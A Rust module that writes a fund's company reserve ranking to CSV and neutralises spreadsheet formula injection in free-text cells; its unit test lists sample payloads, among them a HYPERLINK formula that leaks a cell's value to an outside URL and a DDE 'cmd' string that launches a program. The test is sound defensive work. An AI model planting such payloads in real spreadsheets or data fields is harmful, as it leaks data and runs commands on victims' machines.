//! The ranking as CSV: one row per company (ranked, then excluded), safe to open in a spreadsheet.

use domain::reserves::ReserveReport;

/// Columns of `reserves.csv`.
pub const HEADER: [&str; 14] = [
    "rank", "company", "stage", "follow_on_multiple", "ci_low", "ci_high", "confidence", "expected_moic", "current_reserve",
    "recommended_reserve", "change", "deployed", "action", "note",
];

pub fn ranking_csv(report: &ReserveReport) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    let _ = w.write_record(HEADER);
    for c in &report.companies {
        let action = match c.change.cmp(&rust_decimal::Decimal::ZERO) {
            std::cmp::Ordering::Greater => "increase",
            std::cmp::Ordering::Less => "reduce",
            std::cmp::Ordering::Equal => "hold",
        };
        let record = [
            c.rank.to_string(),
            cell(&c.name),
            crate::components::reserves::stage_label(c.stage).to_string(),
            c.follow_on_multiple.to_string(),
            c.ci_low.to_string(),
            c.ci_high.to_string(),
            c.confidence_score.to_string(),
            c.expected_moic.to_string(),
            c.current_reserve.to_string(),
            c.recommended_allocation.to_string(),
            c.change.to_string(),
            c.deployed.to_string(),
            action.to_string(),
            String::new(),
        ];
        let _ = w.write_record(&record);
    }
    for e in &report.excluded {
        let record = [
            String::new(), cell(&e.name), String::new(), String::new(), String::new(), String::new(), String::new(), String::new(),
            e.current_reserve.to_string(), e.recommended_allocation.to_string(), (e.recommended_allocation - e.current_reserve).to_string(),
            String::new(), "excluded".to_string(), cell(&e.reason),
        ];
        let _ = w.write_record(&record);
    }
    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
}

/// Free text as a spreadsheet-safe cell (a leading `=`, `+`, `-`, `@`, tab or CR is neutralised).
fn cell(text: &str) -> String {
    domain::variance::csv_rows::spreadsheet_safe(text).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_in_names_are_neutralised() {
        assert_eq!(cell("=HYPERLINK(\"https://x/?\"&B2,\"x\")"), "'=HYPERLINK(\"https://x/?\"&B2,\"x\")");
        assert_eq!(cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
        assert_eq!(cell("-1.5"), "-1.5", "numbers stay numeric");
        assert_eq!(cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(cell("Acme"), "Acme");
    }
}
